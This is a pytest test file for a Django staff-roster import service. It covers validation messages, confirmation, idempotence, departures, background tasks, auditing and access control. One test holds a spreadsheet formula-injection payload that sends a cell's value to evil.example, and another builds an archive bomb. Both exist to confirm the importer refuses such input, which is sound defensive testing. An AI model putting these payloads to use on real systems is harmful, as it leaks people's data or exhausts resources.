"""Roster import through its services: preview, errors, confirm, idempotence, departures, atomicity."""

from datetime import date, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from chuangxian.accounts.services import account_authenticate
from chuangxian.audit.models import AuditEntry
from chuangxian.core.actors import SYSTEM
from chuangxian.core.errors import DomainError, Refused
from chuangxian.orgs.models import Gender, Member, MemberStatus, Political, Post, RoleAssignment
from chuangxian.orgs.services import unit_deactivate
from chuangxian.orgs.tests.factories import MemberFactory, make_unit
from chuangxian.roster.columns import RosterFileError
from chuangxian.roster.models import ImportMode, ImportStatus, RosterImport, RosterImportRow, RowOutcome
from chuangxian.roster.services import (
    RosterError,
    roster_import_confirm,
    roster_import_confirm_start,
    roster_import_discard,
    roster_import_plan,
)
from chuangxian.roster.tests.factories import (
    HEADER,
    csv_bytes,
    id_number,
    person,
    rewrite_members,
    upload,
    with_dimension,
    xls_bytes,
    xlsx_bytes,
)


def rows_of(roster_import: RosterImport) -> dict[str, RosterImportRow]:
    return {row.staff_no: row for row in roster_import.rows.order_by("seq")}


def errors_of(row: RosterImportRow) -> dict[str, dict[str, str]]:
    return {error["code"]: error for error in row.errors}


def confirm(roster_import: RosterImport, actor) -> RosterImport:
    roster_import_confirm(roster_import_id=roster_import.pk, actor=actor)
    roster_import.refresh_from_db()
    return roster_import


@pytest.fixture
def office(personas):
    return personas.office


@pytest.fixture
def existing(tree):
    return MemberFactory(
        unit=tree.college,
        staff_no="2010001",
        name="张伟",
        gender=Gender.MALE,
        birth_date=date(1980, 1, 1),
        birth_year=1980,
        post=Post.TEACHER,
        political=Political.MASSES,
        phone="13805951234",
        id_number=id_number(seq=1),
    )


# --- preview ---------------------------------------------------------------------------------------


def test_preview_writes_no_member(tree, office, existing):
    before = Member.objects.count()
    content = xlsx_bytes(
        [
            person("2010001", "张伟", id=id_number(seq=1)),  # unchanged
            person("2010002", "李娜", gender="女"),  # new
            person("2010003", "王芳", unit="不存在的学院"),  # error
        ]
    )
    roster_import = upload(tree, office, content)
    assert roster_import.status == ImportStatus.READY
    assert (roster_import.new_count, roster_import.unchanged_count, roster_import.error_count) == (1, 1, 1)
    assert Member.objects.count() == before
    rows = rows_of(roster_import)
    assert rows["2010001"].outcome == RowOutcome.UNCHANGED
    assert rows["2010002"].outcome == RowOutcome.NEW
    assert rows["2010002"].changes == [["unit_id", "", "文学与传播学院"]]
    assert rows["2010003"].outcome == RowOutcome.ERROR


def test_update_lists_changed_fields_before_and_after(tree, office, existing):
    content = xlsx_bytes(
        [
            person(
                "2010001",
                "张伟",
                id=id_number(seq=1),
                unit="图书馆",
                phone="13905951234",
                political="中共党员",
            )
        ]
    )
    row = rows_of(upload(tree, office, content))["2010001"]
    assert row.outcome == RowOutcome.UPDATED
    assert ["unit_id", "文学与传播学院", "图书馆"] in row.changes
    assert ["phone", "13805951234", "13905951234"] in row.changes
    assert ["political", "群众", "中共党员"] in row.changes
    assert len(row.changes) == 3


def test_errors_carry_the_excel_row_number_the_column_and_what_to_fix(tree, office):
    content = xlsx_bytes(
        [
            person("2010001", "张伟", birth="1980-13-01"),
            [],  # a blank line is skipped but still counted by Excel
            person("2010002", "", phone="12345"),
        ],
        above=[["泉州XX学院教职工花名册"]],
        merges=["A1:J1"],
    )
    roster_import = upload(tree, office, content)
    rows = rows_of(roster_import)
    first, second = rows["2010001"], rows["2010002"]
    assert first.row_number == 3
    assert second.row_number == 5
    date_error = errors_of(first)["date_invalid"]
    assert date_error["column"] == "出生日期（F列）"
    assert "2010-12-15" in date_error["message"]
    assert errors_of(second)["required"]["column"] == "姓名（B列）"
    assert errors_of(second)["phone_invalid"]["column"] == "手机号码（I列）"
    assert roster_import.error_count == 2


def test_missing_required_fields_are_errors(tree, office):
    content = xlsx_bytes(
        [["", "张伟", "图书馆"], ["2010002", "李娜", ""]], header=["工号", "姓名", "所在单位"]
    )
    rows = list(upload(tree, office, content).rows.order_by("seq"))
    assert [e["message"] for e in rows[0].errors] == ["「工号」必须填写。"]
    assert [e["message"] for e in rows[1].errors] == ["「所在单位」必须填写。"]


def test_a_name_starting_like_a_formula_is_a_row_error_and_nothing_is_saved(tree, office):
    hostile = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'
    content = csv_bytes([person("2010001", hostile), person("2010002", "@李娜"), person("2010003", "王芳")])
    roster_import = upload(tree, office, content, name="名册.csv")
    rows = rows_of(roster_import)
    assert roster_import.error_count == 2
    for staff_no in ("2010001", "2010002"):
        error = errors_of(rows[staff_no])["name_formula"]
        assert error["column"] == "姓名（B列）"
    assert rows["2010003"].outcome == RowOutcome.NEW
    with pytest.raises(RosterError) as refused:
        confirm(roster_import, office)
    assert refused.value.code == "has_errors"
    assert not Member.objects.filter(staff_no__in=["2010001", "2010002", "2010003"]).exists()


def test_duplicate_staff_numbers_name_the_other_row(tree, office):
    content = xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜"), person("2010001", "张伟伟")])
    rows = list(upload(tree, office, content).rows.order_by("seq"))
    assert rows[0].outcome == RowOutcome.ERROR
    assert "第 4 行" in errors_of(rows[0])["staff_no_duplicate"]["message"]
    assert rows[2].outcome == RowOutcome.ERROR
    assert "第 2 行" in errors_of(rows[2])["staff_no_duplicate"]["message"]
    assert rows[1].outcome == RowOutcome.NEW


def test_duplicate_id_numbers_in_the_file_are_errors(tree, office):
    same = id_number(seq=7)
    content = xlsx_bytes([person("2010001", "张伟", id=same), person("2010002", "李娜", id=same)])
    rows = list(upload(tree, office, content).rows.order_by("seq"))
    assert {r.outcome for r in rows} == {RowOutcome.ERROR}
    assert "id_number_duplicate" in errors_of(rows[1])


def test_an_id_number_already_held_by_another_staff_number_is_an_error(tree, office, existing):
    content = xlsx_bytes([person("2019999", "张伟", id=existing.id_number)])
    row = rows_of(upload(tree, office, content))["2019999"]
    assert "2010001" in errors_of(row)["id_number_taken"]["message"]


def test_unknown_unit_suggests_the_closest_existing_unit(tree, office):
    content = xlsx_bytes(
        [person("2010001", "张伟", unit="文学院"), person("2010002", "李娜", unit="火星学院")]
    )
    rows = rows_of(upload(tree, office, content))
    assert "是不是「文学与传播学院」" in errors_of(rows["2010001"])["unit_unknown"]["message"]
    assert errors_of(rows["2010001"])["unit_unknown"]["column"] == "所在单位（C列）"
    assert "是不是" not in errors_of(rows["2010002"])["unit_unknown"]["message"]


def test_unit_names_ignore_spaces_and_full_width(tree, office):
    content = xlsx_bytes([person("2010001", "张伟", unit=" 文学与 传播学院\u3000")])
    assert rows_of(upload(tree, office, content))["2010001"].outcome == RowOutcome.NEW


def test_a_group_in_the_unit_column_is_explained(tree, office):
    content = xlsx_bytes([person("2010001", "张伟", unit="中文系工会小组")])
    row = rows_of(upload(tree, office, content))["2010001"]
    assert "工会小组" in errors_of(row)["unit_is_group"]["message"]


def test_a_deactivated_unit_is_refused(tree, office):
    unit_deactivate(unit=tree.library, actor=SYSTEM)
    row = rows_of(upload(tree, office, xlsx_bytes([person("2010001", "张伟", unit="图书馆")])))["2010001"]
    assert "unit_inactive" in errors_of(row)


def test_group_resolves_inside_the_unit_and_unknown_groups_are_suggested(tree, office):
    make_unit(tree.tenant, "外语组", tree.sibling, kind="group")
    content = xlsx_bytes(
        [
            person("2010001", "张伟", group="中文系工会小组"),
            person("2010002", "李娜", group="中文系小组"),
            person("2010003", "王芳", group="外语组"),  # exists, but under another unit
        ]
    )
    roster_import = upload(tree, office, content)
    rows = rows_of(roster_import)
    assert rows["2010001"].changes == [["unit_id", "", "文学与传播学院 / 中文系工会小组"]]
    assert "是不是「中文系工会小组」" in errors_of(rows["2010002"])["group_unknown"]["message"]
    assert errors_of(rows["2010002"])["group_unknown"]["column"] == "工会小组（D列）"
    assert "group_unknown" in errors_of(rows["2010003"])


def test_a_member_stays_in_their_group_when_the_group_cell_is_blank(tree, office, personas):
    member = personas.member_row  # in 中文系工会小组 under 文学与传播学院
    content = xlsx_bytes(
        [[member.staff_no, member.name, "文学与传播学院"]], header=["工号", "姓名", "所在单位"]
    )
    roster_import = upload(tree, office, content)
    assert rows_of(roster_import)[member.staff_no].outcome == RowOutcome.UNCHANGED


def test_full_width_characters_and_spaces_are_normalised_not_rejected(tree, office):
    staff_no = "２０１０００１"
    wide_id = "".join(chr(ord(c) + 0xFEE0) for c in id_number(seq=1))
    content = xlsx_bytes(
        [
            [
                staff_no,
                "张\u3000\u3000伟",
                "图书馆",
                "",
                " 男 ",
                "１９８０－０１－０１",
                "",
                "",
                "１３８ ０５９５ １２３４",
                wide_id,
            ]
        ]
    )
    roster_import = upload(tree, office, content)
    row = rows_of(roster_import)["2010001"]
    assert row.outcome == RowOutcome.NEW, row.errors
    assert row.name == "张伟"
    assert row.data["phone"] == "13805951234"
    assert row.data["id_number"] == id_number(seq=1)


def test_an_id_number_in_a_numeric_xlsx_cell_is_refused(tree, office):
    content = xlsx_bytes([person("2010001", "张伟", id=350502198001011234)])
    row = rows_of(upload(tree, office, content))["2010001"]
    error = errors_of(row)["id_number_numeric"]
    assert "第 15 位以后" in error["message"]
    assert "文本" in error["message"]
    assert error["column"] == "身份证号（J列）"


def test_an_id_number_in_a_numeric_xls_cell_is_refused(tree, office):
    content = xls_bytes([person("2010001", "张伟", id=350502198001011234)])
    row = rows_of(upload(tree, office, content, name="名册.xls"))["2010001"]
    assert "id_number_numeric" in errors_of(row)


def test_an_id_number_in_scientific_notation_in_csv_is_refused(tree, office):
    content = csv_bytes([person("2010001", "张伟", id="3.50502E+17")], encoding="gb18030")
    roster_import = upload(tree, office, content, name="名册.csv")
    assert roster_import.encoding == "gb18030"
    assert "id_number_numeric" in errors_of(rows_of(roster_import)["2010001"])


def test_excel_date_cells_and_serial_numbers_are_dates(tree, office):
    content = xlsx_bytes(
        [
            person("2010001", "张伟", birth=datetime(1980, 1, 2)),
            person("2010002", "李娜", birth=29223),  # serial of 1980-01-03
            person("2010003", "王芳", birth="1980年1月4日"),
        ]
    )
    rows = rows_of(upload(tree, office, content))
    assert [rows[s].data["birth_date"] for s in ("2010001", "2010002", "2010003")] == [
        "1980-01-02",
        "1980-01-03",
        "1980-01-04",
    ]


def test_xls_date_cells_are_dates(tree, office):
    content = xls_bytes(
        [person("2010001", "张伟", birth=date(1980, 1, 2), phone=13805951234)], title="花名册"
    )
    row = rows_of(upload(tree, office, content, name="a.xls"))["2010001"]
    assert row.row_number == 3
    assert row.outcome == RowOutcome.NEW, row.errors
    assert row.data["birth_date"] == "1980-01-02"
    assert row.data["phone"] == "13805951234"


def test_blank_rows_and_footer_notes_are_skipped(tree, office):
    content = xlsx_bytes([person("2010001", "张伟"), [], ["制表人：张三    审核：李四"], ["合计：1 人"]])
    roster_import = upload(tree, office, content)
    assert roster_import.rows.count() == 1
    assert roster_import.error_count == 0


def test_a_header_without_data_rows_fails_with_a_message(tree, office):
    roster_import = upload(tree, office, xlsx_bytes([]))
    assert roster_import.status == ImportStatus.FAILED
    assert "没有数据行" in roster_import.error_message


# --- confirm ---------------------------------------------------------------------------------------


def test_confirm_creates_and_updates_members(tree, office, existing):
    content = xlsx_bytes(
        [
            person("2010001", "张伟", id=id_number(seq=1), phone="13905951234"),
            person(
                "2010002",
                "李娜",
                gender="女",
                birth="1985/6/7",
                post="行政",
                political="预备党员",
                group="中文系工会小组",
                id=id_number("19850607", 2),
            ),
        ]
    )
    roster_import = confirm(upload(tree, office, content), office)
    assert roster_import.status == ImportStatus.DONE
    assert roster_import.confirmed_by == office
    existing.refresh_from_db()
    assert existing.phone == "13905951234"
    new = Member.objects.get(tenant=tree.tenant, staff_no="2010002")
    assert (new.name, new.unit, new.gender, new.post, new.political) == (
        "李娜",
        tree.group,
        Gender.FEMALE,
        Post.ADMIN,
        Political.CPC_PROBATIONARY,
    )
    assert new.birth_date == date(1985, 6, 7)
    assert new.birth_year == 1985
    assert new.status == MemberStatus.ACTIVE
    assert new.name_initials == "ln"


def test_the_same_file_again_is_all_unchanged_and_writes_nothing(tree, office):
    content = xlsx_bytes([person("2010001", "张  伟"), person("2010002", "李娜", group="中文系工会小组")])
    confirm(upload(tree, office, content), office)
    stamps = dict(
        Member.objects.filter(staff_no__in=["2010001", "2010002"]).values_list("staff_no", "updated_at")
    )
    again = upload(tree, office, content)
    assert (again.new_count, again.updated_count, again.unchanged_count) == (0, 0, 2)
    confirm(again, office)
    after = dict(
        Member.objects.filter(staff_no__in=["2010001", "2010002"]).values_list("staff_no", "updated_at")
    )
    assert after == stamps
    assert Member.objects.filter(staff_no="2010001").count() == 1


def test_confirm_is_refused_while_any_row_has_an_error(tree, office):
    content = xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜", unit="文学院")])
    roster_import = upload(tree, office, content)
    with pytest.raises(RosterError) as error:
        roster_import_confirm(roster_import_id=roster_import.pk, actor=office)
    assert error.value.code == "has_errors"
    assert "1 行错误" in error.value.message
    assert not Member.objects.filter(staff_no="2010001").exists()
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY


def test_a_confirmed_import_cannot_be_confirmed_again(tree, office):
    roster_import = confirm(upload(tree, office, xlsx_bytes([person("2010001", "张伟")])), office)
    with pytest.raises(RosterError) as error:
        roster_import_confirm(roster_import_id=roster_import.pk, actor=office)
    assert error.value.code == "not_ready"
    assert Member.objects.filter(staff_no="2010001").count() == 1


def test_status_column_marks_a_member_retired_with_todays_date(tree, office, existing):
    content = xlsx_bytes(
        [["2010001", "张伟", "文学与传播学院", "退休"]], header=["工号", "姓名", "所在单位", "状态"]
    )
    roster_import = upload(tree, office, content)
    assert rows_of(roster_import)["2010001"].changes == [["status", "在职", "退休"]]
    confirm(roster_import, office)
    existing.refresh_from_db()
    assert existing.status == MemberStatus.RETIRED
    assert existing.left_on is not None


def test_full_import_marks_members_missing_from_the_file_and_deletes_nobody(tree, office, personas, existing):
    total = Member.objects.filter(tenant=tree.tenant).count()
    content = xlsx_bytes([person("2010001", "张伟", id=id_number(seq=1)), person("2010002", "李娜")])
    roster_import = upload(tree, office, content, mode=ImportMode.FULL, departure_status="retired")
    departing = {r.staff_no for r in roster_import.rows.filter(outcome=RowOutcome.DEPARTURE)}
    assert personas.member_row.staff_no in departing
    assert "2010001" not in departing
    assert roster_import.departure_count == len(departing) == total - 1
    assert Member.objects.filter(status=MemberStatus.ACTIVE, tenant=tree.tenant).count() == total  # not yet
    confirm(roster_import, office)
    assert Member.objects.filter(tenant=tree.tenant).count() == total + 1
    gone = Member.objects.get(pk=personas.member_row.pk)
    assert gone.status == MemberStatus.RETIRED
    assert gone.left_on is not None
    assert Member.objects.get(staff_no="2010001").status == MemberStatus.ACTIVE
    # Other tenants are never touched.
    assert not Member.objects.filter(tenant=tree.other_tenant).exclude(status=MemberStatus.ACTIVE).exists()


def test_full_import_brings_back_a_listed_member_who_had_left(tree, office, existing):
    Member.objects.filter(pk=existing.pk).update(status=MemberStatus.LEFT, left_on=date(2020, 1, 1))
    content = xlsx_bytes([person("2010001", "张伟", id=id_number(seq=1))])
    roster_import = upload(tree, office, content, mode=ImportMode.FULL)
    assert rows_of(roster_import)["2010001"].changes == [["status", "离职", "在职"]]
    confirm(roster_import, office)
    existing.refresh_from_db()
    assert existing.status == MemberStatus.ACTIVE
    assert existing.left_on is None


def test_partial_import_leaves_everyone_else_alone(tree, office, personas):
    roster_import = confirm(upload(tree, office, xlsx_bytes([person("2010001", "张伟")])), office)
    assert roster_import.departure_count == 0
    assert Member.objects.get(pk=personas.member_row.pk).status == MemberStatus.ACTIVE


def test_a_failure_during_apply_leaves_the_roster_exactly_as_it_was(
    tree, office, existing, personas, monkeypatch
):
    content = xlsx_bytes(
        [
            person("2010001", "张伟改名", id=id_number(seq=1)),
            person("2010002", "李娜"),
            person("2010003", "王芳"),
        ]
    )
    roster_import = upload(tree, office, content, mode=ImportMode.FULL)
    snapshot = list(Member.objects.order_by("pk").values())

    def explode(**kwargs):
        raise RuntimeError("disk full")

    # roster_apply writes its batch audit entry last, after every create, update and departure.
    monkeypatch.setattr("chuangxian.orgs.services.members.audit_record", explode)
    with pytest.raises(RuntimeError):
        roster_import_confirm(roster_import_id=roster_import.pk, actor=office)
    assert list(Member.objects.order_by("pk").values()) == snapshot
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY
    assert not AuditEntry.objects.filter(action="roster.import.confirmed").exists()
    monkeypatch.undo()
    confirm(roster_import, office)
    assert Member.objects.get(staff_no="2010001").name == "张伟改名"


def test_confirm_replans_when_a_unit_was_deactivated_after_the_preview(tree, office):
    roster_import = upload(
        tree, office, xlsx_bytes([person("2010001", "张伟", unit="图书馆"), person("2010002", "李娜")])
    )
    assert roster_import.error_count == 0
    unit_deactivate(unit=tree.library, actor=SYSTEM)
    with pytest.raises(RosterError) as error:
        roster_import_confirm(roster_import_id=roster_import.pk, actor=office)
    assert error.value.code == "stale"
    assert not Member.objects.filter(staff_no__in=["2010001", "2010002"]).exists()
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY
    assert roster_import.error_count == 1
    assert "unit_inactive" in errors_of(rows_of(roster_import)["2010001"])
    assert "名册没有任何改动" in roster_import.error_message


def test_confirm_replans_against_members_created_after_the_preview(tree, office):
    roster_import = upload(tree, office, xlsx_bytes([person("2010001", "张伟", phone="13905951234")]))
    assert roster_import.new_count == 1
    MemberFactory(unit=tree.library, staff_no="2010001", name="张伟", phone="13805951234")
    confirm(roster_import, office)
    assert roster_import.status == ImportStatus.DONE
    assert (roster_import.new_count, roster_import.updated_count) == (0, 1)
    member = Member.objects.get(tenant=tree.tenant, staff_no="2010001")
    assert member.phone == "13905951234"
    assert member.unit == tree.college


def test_imported_member_logs_in_with_the_last_six_of_the_id_number(tree, office):
    confirm(upload(tree, office, xlsx_bytes([person("2010001", "张伟", id=id_number(seq=1))])), office)
    user = account_authenticate(tenant=tree.tenant, login="2010001", password=id_number(seq=1)[-6:])
    assert user is not None
    assert user.must_change_password


# --- discard and audit -----------------------------------------------------------------------------


def test_upload_confirm_and_discard_leave_audit_entries(tree, office):
    first = upload(tree, office, xlsx_bytes([person("2010001", "张伟")]))
    second = upload(tree, office, xlsx_bytes([person("2010002", "李娜")]))
    confirm(first, office)
    roster_import_discard(roster_import_id=second.pk, actor=office)
    actions = list(AuditEntry.objects.filter(tenant=tree.tenant).values_list("action", "target_id", "actor"))
    assert ("roster.import.uploaded", str(first.pk), office.pk) in actions
    assert ("roster.import.uploaded", str(second.pk), office.pk) in actions
    assert ("roster.import.confirmed", str(first.pk), office.pk) in actions
    assert ("roster.import.discarded", str(second.pk), office.pk) in actions
    batch = AuditEntry.objects.get(action="orgs.roster.imported")
    assert batch.data["created"] == 1
    assert str(first.pk) in batch.data["source"]


def test_discard_deletes_rows_and_the_stored_file(tree, office, django_capture_on_commit_callbacks):
    roster_import = upload(tree, office, xlsx_bytes([person("2010001", "张伟")]))
    storage, name = roster_import.file.storage, roster_import.file.name
    assert storage.exists(name)
    with django_capture_on_commit_callbacks(execute=True):
        roster_import_discard(roster_import_id=roster_import.pk, actor=office)
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.DISCARDED
    assert not roster_import.rows.exists()
    assert not storage.exists(name)
    assert not Member.objects.filter(staff_no="2010001").exists()


def test_an_applied_import_cannot_be_discarded(tree, office):
    roster_import = confirm(upload(tree, office, xlsx_bytes([person("2010001", "张伟")])), office)
    with pytest.raises(RosterError) as error:
        roster_import_discard(roster_import_id=roster_import.pk, actor=office)
    assert error.value.code == "cannot_discard"


def test_stored_file_name_is_not_guessable(tree, office):
    roster_import = upload(tree, office, xlsx_bytes([person("2010001", "张伟")]), name="教职工名册.xlsx")
    assert roster_import.original_name == "教职工名册.xlsx"
    assert "名册" not in roster_import.file.name
    assert len(roster_import.file.name) > 40


# --- background jobs -------------------------------------------------------------------------------


def test_large_upload_is_checked_in_the_background(
    tree, office, settings, django_capture_on_commit_callbacks
):
    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 3
    content = xlsx_bytes(
        [person(f"201000{i}", name) for i, name in enumerate(["张伟", "李娜", "王芳", "刘洋", "陈静"])]
    )
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        roster_import = upload(tree, office, content)
    assert roster_import.background
    assert roster_import.status == ImportStatus.QUEUED
    assert not roster_import.rows.exists()
    assert len(callbacks) == 1
    callbacks[0]()  # the task is enqueued after commit; the immediate backend runs it now
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY
    assert roster_import.new_count == 5
    assert roster_import.processed_rows == 5

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        roster_import = roster_import_confirm_start(roster_import_id=roster_import.pk, actor=office)
    assert roster_import.status == ImportStatus.CONFIRMING
    assert not Member.objects.filter(staff_no="2010000").exists()
    callbacks[0]()
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.DONE
    assert roster_import.confirmed_by == office
    assert Member.objects.filter(tenant=tree.tenant, staff_no__startswith="201000").count() == 5


def test_background_tasks_are_idempotent(tree, office, settings, django_capture_on_commit_callbacks):
    from chuangxian.roster.tasks import roster_import_confirm_task, roster_import_plan_task

    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 1
    content = xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜")])
    with django_capture_on_commit_callbacks(execute=True):
        roster_import = upload(tree, office, content)
    assert roster_import_plan_task.call(roster_import.pk) == ImportStatus.READY
    assert roster_import.rows.count() == 2
    with django_capture_on_commit_callbacks(execute=True):
        roster_import_confirm_start(roster_import_id=roster_import.pk, actor=office)
    assert roster_import_confirm_task.call(roster_import.pk) == ImportStatus.DONE
    assert roster_import_plan_task.call(roster_import.pk) == ImportStatus.DONE
    assert Member.objects.filter(staff_no__in=["2010001", "2010002"]).count() == 2
    assert AuditEntry.objects.filter(action="orgs.roster.imported").count() == 1


def test_an_interrupted_check_starts_over(tree, office):
    roster_import = upload(tree, office, xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜")]))
    RosterImport.objects.filter(pk=roster_import.pk).update(status=ImportStatus.PLANNING)
    roster_import = roster_import_plan(roster_import_id=roster_import.pk)
    assert roster_import.status == ImportStatus.READY
    assert list(roster_import.rows.order_by("seq").values_list("seq", flat=True)) == [1, 2]


def test_a_failed_background_confirmation_returns_to_the_preview(
    tree, office, settings, monkeypatch, django_capture_on_commit_callbacks
):
    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 1
    with django_capture_on_commit_callbacks(execute=True):
        roster_import = upload(
            tree, office, xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜")])
        )
    monkeypatch.setattr("chuangxian.orgs.services.members.audit_record", lambda **kw: 1 / 0)
    with django_capture_on_commit_callbacks(execute=True):
        roster_import_confirm_start(roster_import_id=roster_import.pk, actor=office)
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY
    assert "没有任何改动" in roster_import.error_message
    assert not Member.objects.filter(staff_no="2010001").exists()


def test_a_file_whose_dimension_claims_fewer_rows_is_imported_completely(tree, office):
    people = [
        person(f"201000{i}", name)
        for i, name in enumerate(["张伟", "李娜", "王芳", "刘洋", "陈静", "杨帆", "黄磊", "赵敏"])
    ]
    roster_import = upload(tree, office, with_dimension(xlsx_bytes(people), "A1:F3"))
    assert roster_import.new_count == 8
    confirm(roster_import, office)
    assert Member.objects.filter(tenant=tree.tenant, staff_no__startswith="201000").count() == 8


def test_a_file_whose_dimension_claims_fewer_rows_still_goes_to_the_background(
    tree, office, settings, django_capture_on_commit_callbacks, monkeypatch
):
    """The request reads only the header and counts the rows without parsing them; a wrong size tag
    cannot make it check a large file itself."""
    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 3
    people = [person(f"201000{i}", name) for i, name in enumerate(["张伟", "李娜", "王芳", "刘洋", "陈静"])]
    parsed = []
    monkeypatch.setattr("chuangxian.roster.services.plan.parse_row", lambda *a, **k: parsed.append(a))
    with django_capture_on_commit_callbacks(execute=False):
        roster_import = upload(tree, office, with_dimension(xlsx_bytes(people), "A1:J2"))
    assert roster_import.background
    assert roster_import.status == ImportStatus.QUEUED
    assert roster_import.total_rows >= 5
    assert parsed == []


def test_an_archive_bomb_is_refused_at_upload_and_nothing_is_stored(tree, office, settings, monkeypatch):
    settings.ROSTER_IMPORT_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    huge = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + b" " * 2 * 1024 * 1024
    content = rewrite_members(
        xlsx_bytes([person("2010001", "张伟")]), {"xl/sharedStrings.xml": lambda _b: huge}
    )
    monkeypatch.setattr("openpyxl.load_workbook", lambda *a, **k: pytest.fail("the file was parsed"))
    with pytest.raises(RosterFileError) as error:
        upload(tree, office, content)
    assert error.value.code == "archive_too_large"
    assert not RosterImport.objects.exists()


def test_a_formula_without_a_saved_result_is_reported_instead_of_an_empty_cell(tree, office):
    """openpyxl and other programs write formulas without calculating them; Excel shows a value, the
    file holds none. Say so, instead of "姓名 must be filled" or silently ignoring a birth date."""
    content = xlsx_bytes(
        [person("2010001", '="张"&"伟"'), person("2010002", "李娜", birth="=DATE(1980,1,1)")]
    )
    roster_import = upload(tree, office, content)
    rows = rows_of(roster_import)
    name_error = errors_of(rows["2010001"])["formula_without_value"]
    assert name_error["column"] == "姓名（B列）"
    assert "公式" in name_error["message"] and "另存为" in name_error["message"]
    assert "required" not in errors_of(rows["2010001"])
    assert errors_of(rows["2010002"])["formula_without_value"]["column"] == "出生日期（F列）"
    assert roster_import.error_count == 2


# --- queries ---------------------------------------------------------------------------------------


def _plan_queries(tree, office, count: int) -> int:
    rows = [
        person(f"3{i:06d}", "张伟", id=id_number(seq=i % 1000, birth=f"19{50 + i // 1000}0101"))
        for i in range(count)
    ]
    content = xlsx_bytes(rows)
    with CaptureQueriesContext(connection) as queries:
        roster_import = upload(tree, office, content)
    assert roster_import.new_count == count, roster_import.error_message
    return len(queries)


def test_planning_uses_a_bounded_number_of_queries(tree, office):
    small = _plan_queries(tree, office, 10)
    large = _plan_queries(tree, office, 2000)
    assert small <= 25
    # Per chunk of 500 rows: one member lookup, one progress update and the inserts (one statement on
    # PostgreSQL; SQLite splits them at its 999-parameter limit) — never a query per row.
    assert large <= small + 4 * 9, large


def test_domain_errors_are_typed(tree, office):
    with pytest.raises(DomainError):
        upload(tree, office, b"")


def test_header_only_template_columns_are_enough(tree, office):
    content = xlsx_bytes([["2010001", "张伟", "图书馆"]], header=["工号*", "姓名*", "所在单位*"])
    assert upload(tree, office, content).new_count == 1


def test_header_constant_matches_the_template(tree):
    from chuangxian.roster.columns import COLUMNS

    assert [c.label for c in COLUMNS][: len(HEADER)] == HEADER


def test_every_problem_of_a_row_is_listed_in_one_preview(tree, office):
    """An officer fixes the file once: the unknown unit is reported next to the row's other errors."""
    content = xlsx_bytes(
        [["2010001", "", "文学院", "1990.13.01"]], header=["工号", "姓名", "所在单位", "出生日期"]
    )
    row = rows_of(upload(tree, office, content))["2010001"]
    assert "unit_unknown" in errors_of(row)
    assert len(row.errors) == 3


def test_a_background_confirmation_is_refused_when_the_officer_lost_the_office_meanwhile(
    tree, personas, settings, django_capture_on_commit_callbacks
):
    """The task confirms as the officer who confirmed, so the service checks their right again."""
    from chuangxian.roster.tasks import roster_import_confirm_task

    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 1
    with django_capture_on_commit_callbacks(execute=True):
        roster_import = upload(
            tree, personas.office, xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜")])
        )
    with django_capture_on_commit_callbacks(execute=False):
        roster_import_confirm_start(roster_import_id=roster_import.pk, actor=personas.office)
    RoleAssignment.objects.filter(member__user=personas.office).delete()

    assert roster_import_confirm_task.call(roster_import.pk) == ImportStatus.READY
    roster_import.refresh_from_db()
    assert "只有学校工会可以导入名册" in roster_import.error_message
    assert not Member.objects.filter(staff_no__in=["2010001", "2010002"]).exists()


def test_a_background_confirmation_started_by_the_system_runs_as_the_system(
    tree, settings, django_capture_on_commit_callbacks
):
    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 1
    with django_capture_on_commit_callbacks(execute=True):
        roster_import = upload(
            tree, SYSTEM, xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜")])
        )
    with django_capture_on_commit_callbacks(execute=True):
        roster_import_confirm_start(roster_import_id=roster_import.pk, actor=SYSTEM)
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.DONE
    assert roster_import.uploaded_by is None and roster_import.confirmed_by is None
    assert Member.objects.filter(staff_no__in=["2010001", "2010002"]).count() == 2


@pytest.mark.parametrize("who", ["chair", "liaison", "other_office"])
def test_only_the_tenants_office_imports(tree, personas, who):
    content = xlsx_bytes([person("2010001", "张伟")])
    with pytest.raises(Refused) as error:
        upload(tree, getattr(personas, who), content)
    assert error.value.code == "not_office"
    assert not RosterImport.objects.exists()
    roster_import = upload(tree, personas.office, content)
    for service in (roster_import_confirm_start, roster_import_discard):
        with pytest.raises(Refused):
            service(roster_import_id=roster_import.pk, actor=getattr(personas, who))
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.READY
